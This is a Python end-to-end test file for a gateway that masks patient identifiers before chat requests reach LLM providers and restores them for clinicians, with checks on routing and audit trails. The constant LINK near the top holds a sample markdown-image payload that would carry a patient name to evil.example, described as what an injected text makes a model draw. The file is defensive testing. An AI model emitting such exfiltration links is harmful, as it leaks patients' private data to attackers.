"""A chat that is not streamed: what the provider received, what the clinician read, what the trail keeps."""

import json

from tests.e2e import planted
from tests.e2e.bodies import answering, asked, chat, completion, said_text
from tests.e2e.provider import Providers
from tests.e2e.stack import Gate
from tests.e2e.wire import ask

LINK = "![](https://evil.example/?q=[NAME_1]) Summary for [NAME_1]."
"""What an injected text makes a model draw: a picture whose address carries the name out."""


def test_the_provider_reads_surrogates_and_the_clinician_reads_names(gate: Gate, providers: Providers) -> None:
    answer = ask(gate.door, chat(planted.PROMPT))
    assert answer.status == 200
    assert [asked(one) for one in providers.requests] == [planted.MASKED]
    assert said_text(answer.body) == planted.RESTORED


def test_what_was_not_masked_reaches_the_provider_byte_for_byte(gate: Gate, providers: Providers) -> None:
    message = rb'{"content":"dose of metoprolol\u00e9 \ud83d\ude00?", "role" : "user"}'
    body = b'{ "messages" : [ ' + message + b'],\n\t"model":"demo-chat" }'
    assert ask(gate.door, body).status == 200
    assert [one.body for one in providers.requests] == [body]


def test_a_name_has_one_surrogate_through_the_whole_history(gate: Gate, providers: Providers) -> None:
    answer = ask(gate.door, chat(f"Patient {planted.NAME} is here.", f"How is {planted.NAME} now?"))
    messages = json.loads(providers.requests[0].body)["messages"]
    assert [one["content"] for one in messages] == ["Patient [NAME_1] is here.", "How is [NAME_1] now?"]
    assert said_text(answer.body) == f"How is {planted.NAME} now?"


def test_a_part_of_a_name_comes_back_as_it_was_written(gate: Gate, providers: Providers) -> None:
    surname = planted.NAME.split()[1]
    answer = ask(gate.door, chat(f"Patient {planted.NAME} is here.", f"How is Ms. {surname} now?"))
    assert not planted.found(providers.requests[0].body)
    assert said_text(answer.body) == f"How is Ms. {surname} now?"


def test_a_link_that_would_carry_a_name_out_keeps_its_surrogate(gate: Gate, providers: Providers) -> None:
    providers.begin(answering(completion(LINK)))
    answer = ask(gate.door, chat(planted.PROMPT))
    link, _, summary = said_text(answer.body).partition(" ")
    assert (link[:4], link[-9:], summary) == ("![](", "[NAME_1])", f"Summary for {planted.NAME}.")


def test_an_identifier_that_the_provider_says_by_itself_is_masked_by_the_answers_plan(
    gate: Gate, providers: Providers
) -> None:
    text = f"Dr. {planted.FOREIGN_NAME} has SSN {planted.FOREIGN_SSN} on file."
    providers.begin(answering(completion(text)))
    answer = ask(gate.door, chat(planted.CLEAN))
    assert said_text(answer.body) == f"Dr. {planted.FOREIGN_NAME} has SSN  on file."


def test_a_service_reads_no_name_restored(gate: Gate, providers: Providers) -> None:
    service = gate.to(sub="batch-1", groups=["ops-services"], wardgate_type="service")
    answer = ask(service, chat(planted.PROMPT))
    assert (answer.status, said_text(answer.body)) == (200, planted.MASKED)


def test_the_answer_names_its_exchange_and_the_trail_has_it_whole(gate: Gate, providers: Providers) -> None:
    answer = ask(gate.door, chat(planted.PROMPT))
    assert gate.ending(answer.exchange)["body"]["status"] == 200
    assert gate.events(answer.exchange) == ["request.received", "request.decided", "exchange.completed"]
    decided = gate.records(answer.exchange)[1]["body"]
    assert decided["outcome"] == "forwarded"
    assert {row["entity"]: row["count"] for row in decided["masked"]} == {
        "NAME": 2, "MRN": 1, "SSN": 1, "DATE": 1, "PHONE": 1, "EMAIL": 1,
    }  # fmt: skip


def test_what_holds_identifiers_goes_to_the_premises_and_the_rest_elsewhere(gate: Gate, providers: Providers) -> None:
    ask(gate.door, chat(planted.PROMPT))
    ask(gate.door, chat(planted.CLEAN))
    assert [asked(one) for one in providers["demo-onprem"].requests] == [planted.MASKED]
    assert [asked(one) for one in providers["demo-cloud"].requests] == [planted.CLEAN]
    assert providers["demo-nobaa"].heard_bytes == 0


def test_a_model_that_only_the_cloud_has_is_asked_there_with_everything_masked(
    gate: Gate, providers: Providers
) -> None:
    answer = ask(gate.door, chat(planted.PROMPT, model="cloud-chat"))
    assert said_text(answer.body) == planted.RESTORED
    assert [asked(one) for one in providers["demo-cloud"].requests] == [planted.MASKED]
